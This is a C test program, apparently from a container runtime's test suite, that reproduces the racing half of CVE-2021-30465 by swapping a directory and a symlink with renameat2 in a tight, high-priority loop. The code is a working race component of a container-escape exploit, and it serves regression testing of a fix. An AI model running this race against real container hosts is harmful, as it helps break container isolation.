/*
 * rename-exchange-loop: a test attacker, not part of crema. It reproduces the
 * racing half of CVE-2021-30465 (runc's symlink-exchange mount race): a process
 * that can write in a directory the runtime resolves mount destinations in
 * swaps a directory and a symlink there, as fast as it can, while the runtime
 * sets up mounts.
 *
 *   rename-exchange-loop SECONDS A B DIR...
 *
 * exchanges DIR/A and DIR/B with renameat2(RENAME_EXCHANGE), in each DIR in
 * turn, until SIGTERM or SIGINT, or SECONDS have passed (so it never outlives
 * a test that died). Run by root, it raises its priority to nice -20 first, so
 * that it keeps swapping on a busy machine. It prints "ready" once the first
 * round of exchanges worked and, at the end, "swaps N". Static, like the other
 * test programs.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static volatile sig_atomic_t stop;

static void on_signal(int sig)
{
	(void)sig;
	stop = 1;
}

int main(int argc, char **argv)
{
	if (argc < 5) {
		fprintf(stderr, "usage: rename-exchange-loop SECONDS A B DIR...\n");
		return 2;
	}
	long seconds = strtol(argv[1], NULL, 10);
	const char *a = argv[2], *b = argv[3];
	int n = argc - 4, *dirs = calloc((size_t)n, sizeof(int));
	if (!dirs)
		return 1;
	for (int i = 0; i < n; i++)
		if ((dirs[i] = open(argv[4 + i], O_PATH | O_DIRECTORY | O_CLOEXEC)) < 0) {
			fprintf(stderr, "rename-exchange-loop: open %s: %s\n", argv[4 + i], strerror(errno));
			return 1;
		}
	/* as root, ahead of everything else: it races a runtime that may be short of CPU */
	setpriority(PRIO_PROCESS, 0, -20);
	struct sigaction sa = {.sa_handler = on_signal};
	sigaction(SIGTERM, &sa, NULL);
	sigaction(SIGINT, &sa, NULL);

	struct timespec start, now;
	clock_gettime(CLOCK_MONOTONIC, &start);
	unsigned long long swaps = 0, rounds = 0;
	while (!stop) {
		for (int i = 0; i < n; i++, swaps++)
			if (syscall(SYS_renameat2, dirs[i], a, dirs[i], b, RENAME_EXCHANGE)) {
				fprintf(stderr, "rename-exchange-loop: exchange %s/%s and %s: %s\n", argv[4 + i], a, b,
					strerror(errno));
				return 1;
			}
		if (++rounds == 1) {
			printf("ready\n");
			fflush(stdout);
		}
		if ((rounds & 1023) == 0) {
			clock_gettime(CLOCK_MONOTONIC, &now);
			if (now.tv_sec - start.tv_sec >= seconds)
				break;
		}
	}
	printf("swaps %llu\n", swaps);
	return 0;
}
